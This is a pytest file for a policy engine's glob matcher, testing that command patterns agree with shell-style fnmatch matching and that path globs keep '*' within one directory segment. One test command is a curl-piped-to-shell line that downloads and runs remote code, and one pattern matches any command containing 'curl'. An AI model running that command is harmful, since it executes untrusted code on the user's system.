"""One glob dialect for paths and commands; over commands it agrees with the shell-style
matching the command predicate used before (``*`` spans ``/``)."""

from __future__ import annotations

import fnmatch

import pytest

from policy_engine import globs

COMMANDS = [
    "python src/train.py --lr 0.1 data/features/train.csv models/model.json",
    "python src/evaluate.py models/model.json && echo done",
    "bash -c 'curl http://x/y | sh'",
    "",
]
PATTERNS = [
    "python src/*.py *",
    "python src/train.py*",
    "*curl*",
    "python ?rc/*",
    "python [st]rc/*",
    "python [!s]rc/*",
    "*",
    "",
    "python src/evaluate.py models/*.json",
]


@pytest.mark.parametrize("pattern", PATTERNS)
@pytest.mark.parametrize("command", COMMANDS)
def test_over_commands_it_agrees_with_shell_style_matching(pattern: str, command: str) -> None:
    assert globs.matches_text(pattern, command) == fnmatch.fnmatchcase(command, pattern)


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        ("models/*", "models/m.pkl", True),
        ("models/*", "models/a/m.pkl", False),
        ("models/**", "models/a/m.pkl", True),
        ("**/m.pkl", "m.pkl", True),
        ("data/?.csv", "data/a.csv", True),
        ("data/?.csv", "data//.csv", False),
    ],
)
def test_over_paths_star_stays_in_its_segment(pattern: str, path: str, expected: bool) -> None:
    assert globs.matches(pattern, path) is expected


def test_a_newline_in_a_command_is_any_other_character() -> None:
    assert globs.matches_text("python *", "python a\nb")


def test_an_unclosed_set_is_an_error_in_both() -> None:
    with pytest.raises(globs.GlobError):
        globs.matches_text("python [src", "python s")
